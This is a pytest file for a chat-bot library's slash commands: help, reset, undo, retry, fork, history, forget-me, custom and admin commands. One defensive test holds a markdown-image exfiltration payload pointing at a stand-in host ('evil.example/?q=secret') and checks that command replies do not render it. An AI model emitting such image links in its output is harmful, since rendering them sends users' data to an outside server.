"""What people can tell the bot to do."""

from __future__ import annotations

import asyncio
import functools
from typing import Any

import dspy
import pytest

from dspy_session import ConfigurationError, SessionError
from dspy_session.errors import PlatformError
from dspy_session_chat import Access, Action, Asked, Bot, Command, Event, Manners, Press, Reply
from dspy_session_chat.testing import ChatTester, PlainTesterPlatform, TesterPlatform
from tests.chat.agents import Parrot, Speaker, held


async def test_help_lists_what_there_is() -> None:
    async with ChatTester(held(Parrot())) as chat:
        help_text = (await chat.say("/help")).text
        assert {command.name for command in chat.platform.commands} == {
            "help", "reset", "undo", "retry", "stop", "fork", "history", "forget-me",
        }  # fmt: skip
        for command in chat.platform.commands:
            assert f"`/{command.name}`" in help_text
            assert command.description in help_text
        assert await chat.turns() == []


async def test_a_message_is_a_command_only_as_a_whole() -> None:
    async with ChatTester(held(Parrot())) as chat:
        for text in ("/unknown", "/etc/hosts is a file", "say /help", "/resettle"):
            assert (await chat.say(text, thread=text)).text.startswith(f"{text}!")
        assert (await chat.say("  /HELP  ")).text.startswith("Write to me")
        unknown = await chat.command("nonsense")
        assert "no command 'nonsense'" in unknown.text


@pytest.mark.parametrize("name", ["reset", "new"])
async def test_reset_begins_anew(name: str) -> None:
    async with ChatTester(held(Parrot())) as chat:
        await chat.say("one")
        assert "start again" in (await chat.say(f"/{name}")).text
        assert (await chat.say("two")).text == "two! (0 before, call 2)"
        assert len(await chat.conversations.past_turns("tester:W:general:t1")) == 2


async def test_undo_takes_back_as_many_as_one_says() -> None:
    async with ChatTester(held(Parrot())) as chat:
        assert "nothing to take back" in (await chat.say("/undo")).text
        for number in range(4):
            await chat.say(f"m{number}")
        assert (await chat.say("/undo")).text == "I took back the last answer, to:\n- m3"
        assert "the last 2 answers" in (await chat.say("/undo 2")).text
        for nonsense in ("many", "0", "-1", "101", "1.5"):
            assert "Write how many" in (await chat.say(f"/undo {nonsense}")).text
        assert [turn.inputs["message"] for turn in await chat.turns()] == ["m0"]
        assert (await chat.say("/undo 100")).text == "I took back the last answer, to:\n- m0"


async def test_undo_reaches_beyond_the_window() -> None:
    from dspy_session import sessionify

    async with ChatTester(sessionify(Parrot(), copy_mode="none", max_turns=1)) as chat:
        for number in range(6):
            await chat.say(f"m{number}")
        await chat.say("/undo 4")
        assert [turn.inputs["message"] for turn in await chat.turns()] == ["m0", "m1"]
        assert (await chat.say("next")).text.startswith("next! (1 before")


@pytest.mark.parametrize("how", ["text", "button"])
async def test_retry_answers_once_more_with_the_same_history(how: str) -> None:
    async with ChatTester(held(Parrot())) as chat:
        await chat.say("one")
        reply = await chat.say("two")
        if how == "text":
            again = await chat.say("/retry", author="ben")
        else:
            again = await chat.answer_to(await chat.press("Retry", reply, author="ben"))
        assert again.text == "two! (1 before, call 3)"
        turns = await chat.turns()
        assert [turn.outputs["reply"] for turn in turns] == ["one! (0 before, call 1)", "two! (1 before, call 3)"]
        assert again.turn_id == turns[-1].id
        await chat.react("👍", again)
        assert (await chat.turns())[-1].score == 1.0


async def test_only_the_last_answer_can_be_asked_for_once_more() -> None:
    async with ChatTester(held(Parrot())) as chat:
        assert "nothing to answer" in (await chat.say("/retry")).text
        first = await chat.say("one")
        await chat.say("two")
        refused = await chat.answer_to(await chat.press("Retry", first))
        assert "Only the last answer" in refused.text
        assert len(await chat.turns()) == 2


async def test_retry_asks_for_a_fresh_sample() -> None:
    speaker = Speaker("the same")
    async with ChatTester(dspy.Predict("message -> reply"), lm=speaker.lm.copy(temperature=0)) as chat:
        await chat.say("one")
        await chat.say("/retry")
    first, second = (prompt.request.config for prompt in speaker.model.prompts)
    assert (first.temperature, second.temperature) == (0, 1.0)


async def test_a_message_that_failed_can_be_asked_again_and_again() -> None:
    agent = Parrot()
    agent.errors = [RuntimeError("first"), RuntimeError("second")]
    async with ChatTester(held(agent)) as chat:
        failed = await chat.say("one", author="ben")
        assert failed.text.startswith("Sorry, something went wrong")
        assert [button.label for button in failed.buttons] == ["Retry"]
        failed = await chat.answer_to(await chat.press("Retry", failed))
        assert failed.text.startswith("Sorry, something went wrong")
        reply = await chat.answer_to(await chat.press("Retry", failed))
        assert reply.text == "one! (0 before, call 3)"
        assert (await chat.say("/retry")).text == "one! (0 before, call 4)"
        assert len(await chat.turns()) == 1


async def test_fork_opens_a_thread_that_goes_on_from_here() -> None:
    async with ChatTester(held(Parrot())) as chat:
        assert "nothing to start from" in (await chat.say("/fork")).text
        await chat.say("one")
        forked = await chat.say("/fork another way")
        assert "#opened-1" in forked.text
        assert (await chat.say("two", thread="opened-1")).text == "two! (1 before, call 2)"
        assert (await chat.say("three")).text == "three! (1 before, call 3)"
        chat.platform.fail("open_thread", PlatformError("I may open no threads here."))
        assert "I may open no threads here." in (await chat.say("/fork")).text


async def test_where_all_is_one_conversation_there_is_nothing_to_fork() -> None:
    async with ChatTester(held(Parrot()), manners=Manners(scope="channel")) as chat:
        await chat.say("one")
        assert "cannot fork" in (await chat.say("/fork")).text
    async with ChatTester(held(Parrot()), manners=Manners(dms="whole")) as chat:
        await chat.say("one", addressed="direct")
        assert "cannot fork" in (await chat.say("/fork", addressed="direct")).text


@pytest.mark.parametrize("scope", ["channel", "user", "user-in-channel"])
async def test_no_thread_is_opened_that_would_not_be_a_conversation_of_its_own(scope: Any) -> None:
    async with ChatTester(held(Parrot()), manners=Manners(scope=scope)) as chat:
        await chat.say("one")
        chat.platform.fail("open_thread", AssertionError("a thread was opened"))
        assert "cannot fork" in (await chat.say("/fork")).text


async def test_history_is_a_table_and_a_file() -> None:
    async with ChatTester(held(Parrot())) as chat:
        assert "remember nothing" in (await chat.say("/history")).text
        for number in range(7):
            await chat.say(f"m{number} | with a bar")
        told = await chat.say("/history")
        assert "7 exchanges" in told.text
        assert "| 7 | m6 \\| with a bar |" in told.text
        assert "m0" not in told.text
        (file,) = told.files
        assert file.name == "history.md"
        assert "m0 | with a bar" in file.data.decode()
        assert told.private


async def test_forget_me_deletes_what_one_wrote_for_good() -> None:
    async with ChatTester(held(Parrot())) as chat:
        await chat.say("my secret", author="ann")
        await chat.say("not mine", author="ben")
        await chat.say("elsewhere", author="ann", thread="t2")
        asked = await chat.say("/forget-me", author="ann")
        assert "for good" in asked.text
        assert len(await chat.turns()) == 2
        done = await chat.answer_to(await chat.press("Delete it all", asked, author="ann"))
        assert "2 conversations" in done.text
        assert [turn.inputs["message"] for turn in await chat.turns()] == ["not mine"]
        assert await chat.turns("t2") == []
        entries = [entry async for entry in chat.conversations.store.entries("tester:W:general:t1")]
        assert not any("my secret" in entry.body for entry in entries)
        assert (await chat.say("hello", author="ann")).text.startswith("hello! (1 before")
        assert "2 conversations" not in (await chat.say("/forget-me yes", author="ben")).text


async def test_a_bots_author_adds_commands() -> None:
    chat = ChatTester(held(Parrot()), access=Access(admins=["ann"]))

    @chat.bot.command("weather", "What the weather is like.", takes="[where]", aliases=["rain"])
    async def weather(asked: Asked) -> str:
        return f"It rains in **{asked.text or 'London'}**, {asked.event.author.name}."

    @chat.bot.command("wipe", "Wipe it.", admin=True)
    async def wipe(asked: Asked) -> Reply:
        await (await asked.changing(reply := Reply("Wiped."))).reset()
        return reply

    @chat.bot.command("broken", "Fails.")
    async def broken(asked: Asked) -> None:
        raise RuntimeError("the secret reason")

    @chat.bot.command("fussy", "Refuses.")
    async def fussy(asked: Asked) -> None:
        raise SessionError("write a number")

    @chat.bot.command("quiet", "Says nothing.")
    async def quiet(asked: Asked) -> None:
        return None

    async with chat:
        assert (await chat.say("/weather Paris")).text == "It rains in **Paris**, Ann."
        assert (await chat.command("rain")).text == "It rains in **London**, Ann."
        assert "`/weather` or `/rain` [where]: What the weather is like." in (await chat.say("/help")).text
        assert "/wipe" not in (await chat.say("/help", author="ben")).text
        assert (await chat.say("/wipe", author="ben")).text == "Only admins may tell me that."
        await chat.say("one")
        assert (await chat.say("/wipe", author="ann")).text == "Wiped."
        assert await chat.turns() == []
        said = (await chat.say("/broken")).text
        assert "went wrong" in said
        assert "secret" not in said
        assert (await chat.say("/fussy")).text == "That did not work: write a number"
        await chat.overhear("/quiet", addressed="mention")
        pressed = await chat.do(Press("weather", "Rome"))
        assert "Rome" in (await chat.answer_to(pressed)).text
        assert "weather" in {command.name for command in chat.platform.commands}


@pytest.mark.parametrize(
    ("name", "description", "says"),
    [
        ("Weather", "Fine.", "no name for a command"),
        ("a b", "Fine.", "no name for a command"),
        ("help", "Fine.", "a command 'help' already"),
        ("new", "Fine.", "a command 'new' already"),
        ("weather", "", "needs a description"),
        ("weather", "x" * 101, "100 characters"),
        ("weather", "two\nlines", "one line"),
    ],
)
def test_a_command_that_does_not_fit_is_refused_at_once(name: str, description: str, says: str) -> None:
    bot = Bot(Parrot(), platforms=[PlainTesterPlatform()], store="memory://")
    with pytest.raises(ConfigurationError, match=says):
        bot.command(name, description)(_never)


async def _never(asked: Asked) -> None:
    raise AssertionError


async def _takes_nothing() -> None:
    raise AssertionError


async def _takes_two(asked: Asked, more: str) -> None:
    raise AssertionError


async def test_commands_wait_for_the_answer_before_them() -> None:
    agent = Parrot()
    async with ChatTester(held(agent)) as chat:
        gate = agent.gate()
        first = await chat.start("one")
        await agent.started.wait()
        reset = await chat.start("/reset")
        gate.set()
        await first.reply()
        await reset.reply()
        assert await chat.turns() == []


async def test_whoever_may_not_talk_may_tell_it_nothing() -> None:
    async with ChatTester(held(Parrot()), access=Access(allow_users=["ann"])) as chat:
        await chat.say("one", author="ann")
        refused = await chat.say("/reset", author="eve")
        assert "may not talk" in refused.text
        assert refused.private
        assert len(await chat.turns()) == 1


@pytest.mark.parametrize("how", ["button", "edit"])
async def test_forget_me_deletes_ones_words_whoever_asked_for_another_answer_to_them(how: str) -> None:
    async with ChatTester(held(Parrot())) as chat:
        asked = await chat.start("a secret", author="ann")
        reply = await asked.reply()
        if how == "edit":
            reply = await chat.answer_to(await chat.edit(asked, "my secret"))
        await chat.answer_to(await chat.press("Retry", reply, author="ben"))
        await chat.say("/forget-me yes", author="ann")
        assert await chat.turns() == []
        entries = [entry.body async for entry in chat.conversations.store.entries("tester:W:general:t1")]
        assert "secret" not in "".join(entries)


async def test_commands_carry_nothing_out_that_answers_do_not() -> None:
    leak = "![a](https://evil.example/?q=secret)"
    async with ChatTester(Says(leak)) as chat:
        await chat.say(leak)
        told = await chat.say("/history")
        assert told.text.count("[a](https://evil.example/?q=secret)") == 2
        forked = await chat.say(f"/fork {leak}")
        undone = await chat.say("/undo")
        assert not any("![" in message.text for message in (told, forked, undone))


class Says(dspy.Module):
    """Says always the same."""

    def __init__(self, words: str) -> None:
        super().__init__()
        self.words = words

    async def aforward(self, message: str) -> dspy.Prediction:
        return dspy.Prediction(reply=self.words)


async def test_what_was_said_in_a_dm_is_not_shown_among_others() -> None:
    async with ChatTester(held(Parrot()), manners=Manners(scope="user")) as chat:
        await chat.say("my secret", addressed="direct")
        assert "my secret" in (await chat.say("/history", addressed="direct")).text
        told = await chat.say("/history")
        undone = await chat.say("/undo")
        assert "ask me in a DM" in told.text
        assert told.files == ()
        assert undone.text == "I took back the last answer."


@pytest.mark.parametrize("returned", [7, {"text": "x"}, Reply(7)])  # type: ignore[arg-type]
async def test_a_command_that_returns_what_nobody_can_say_says_sorry(
    returned: object, caplog: pytest.LogCaptureFixture
) -> None:
    chat = ChatTester(held(Parrot()))

    @chat.bot.command("odd", "Returns what nobody can say.")
    async def odd(asked: Asked) -> Any:
        return returned

    async with chat:
        assert (await chat.say("/odd")).text.startswith("Sorry, that did not work")
        assert (await chat.say("one")).text.startswith("one!")
    assert repr(returned) in caplog.text


async def test_a_command_whose_own_work_is_cancelled_holds_nobody_up() -> None:
    chat = ChatTester(held(Parrot()))

    @chat.bot.command("cancelled", "Waits for what was cancelled.")
    async def cancelled(asked: Asked) -> None:
        never = asyncio.get_running_loop().create_future()
        never.cancel()
        await never

    async with chat:
        assert (await chat.say("/cancelled")).text.startswith("Sorry, that did not work")
        assert (await chat.say("one")).text.startswith("one!")


@pytest.mark.parametrize(
    ("handler", "says"),
    [
        (lambda asked: "x", "async def"),
        ("words", "async def"),
        (asyncio.sleep, None),
        (_takes_nothing, "one argument"),
        (_takes_two, "one argument"),
    ],
)
def test_a_handler_that_cannot_carry_a_command_out_is_refused(handler: Any, says: str | None) -> None:
    bot = Bot(Parrot(), platforms=[PlainTesterPlatform()], store="memory://")
    if says is None:
        assert bot.command("fits", "Fits.")(handler) is handler
        return
    with pytest.raises(ConfigurationError, match=f"the command broken.*{says}") as refused:
        bot.command("broken", "Is broken.")(handler)
    assert "\n" not in str(refused.value)


class Calls:
    """Is called like a function."""

    async def __call__(self, asked: Asked) -> str:
        return f"called with {asked.text}"


async def test_what_is_called_like_a_function_can_carry_a_command_out() -> None:
    chat = ChatTester(held(Parrot()))
    chat.bot.command("call", "Is called.", takes="[what]")(Calls())
    chat.bot.command("part", "Is called with more.", takes="[what]")(functools.partial(_says, "part"))
    async with chat:
        assert (await chat.say("/call me")).text == "called with me"
        assert (await chat.say("/part me")).text == "part me"


async def _says(first: str, asked: Asked) -> str:
    return f"{first} {asked.text}"


@pytest.mark.parametrize(
    ("text", "meant"),
    [
        ("/hlep", "help"),
        ("/hlep me", "help"),
        (" /Resset ", "reset"),
        ("/undoo 2", "undo"),
        ("/forgetme yes", "forget-me"),
    ],
)
async def test_a_command_that_is_misspelt_is_asked_about(text: str, meant: str) -> None:
    agent = Parrot()
    async with ChatTester(held(agent)) as chat:
        await chat.say("one")
        asked = await chat.say(text)
        assert asked.text == f"I know no command {text.split(maxsplit=1)[0]}; did you mean /{meant}?"
        assert asked.private
        assert [turn.inputs["message"] for turn in await chat.turns()] == ["one"]
        for no_command in ("/hlep me with this", "hlep", "/etc", "/resettle", "/hlep/me"):
            assert (await chat.say(no_command)).text.startswith(f"{no_command}!")


async def test_a_misspelt_command_of_admins_is_told_to_admins_alone() -> None:
    chat = ChatTester(held(Parrot()), access=Access(admins=["ann"], deny_users=["eve"]))
    chat.bot.command("wipe", "Wipe it.", admin=True)(_never)
    async with chat:
        assert "did you mean /wipe?" in (await chat.say("/wiep", author="ann")).text
        assert (await chat.say("/wiep", author="ben")).text.startswith("/wiep!")
        assert "may not talk" in (await chat.say("/hlep", author="eve")).text


async def test_a_misspelt_command_is_no_part_of_a_message() -> None:
    agent = Parrot()
    async with ChatTester(held(agent), manners=Manners(busy="merge")) as chat:
        gate = agent.gate()
        await chat.start("one")
        await agent.started.wait()
        two, misspelt = await chat.start("two"), await chat.start("/hlep")
        gate.set()
        assert (await two.reply()).text == "two! (1 before, call 2)"
        assert "did you mean /help?" in (await misspelt.reply()).text


class Waiter(TesterPlatform):
    """Shows of itself that an answer is on its way; keeps to which events it is told that none comes."""

    def __init__(self) -> None:
        super().__init__()
        self.let_go: list[str] = []
        self.news = asyncio.Event()

    async def nothing_to_say(self, inbound: Event) -> None:
        self.let_go.append(inbound.deed.name if isinstance(inbound, Action) else inbound.text)  # type: ignore[union-attr]
        self.news.set()


async def test_what_gets_no_answer_of_its_own_is_told_where_that_shows() -> None:
    agent, platform = Parrot(), Waiter()
    chat = ChatTester(held(agent), platform=platform, manners=Manners(busy="merge"))

    @chat.bot.command("quiet", "Say nothing.")
    async def quiet(asked: Asked) -> None:
        """Say nothing."""

    async with chat:
        await chat.say("one")
        assert platform.let_go == []
        await chat.do(Command("quiet"))
        async with asyncio.timeout(10):
            await platform.news.wait()
        assert platform.let_go == ["quiet"]
        gate = agent.gate()
        await chat.start("two")
        await agent.started.wait()
        await chat.start("three")
        last = await chat.start("four")
        gate.set()
        assert "three" in (await last.reply()).text
    assert platform.let_go == ["quiet", "three"]


async def test_what_a_private_command_says_is_private() -> None:
    chat = ChatTester(held(Parrot()))

    @chat.bot.command("mine", "Say it to me alone.", private=True)
    async def mine(asked: Asked) -> str:
        return "Only you."

    @chat.bot.command("ours", "Say it to all.")
    async def ours(asked: Asked) -> str:
        return "All of you."

    async with chat:
        assert (await chat.command("mine")).private
        assert not (await chat.command("ours")).private
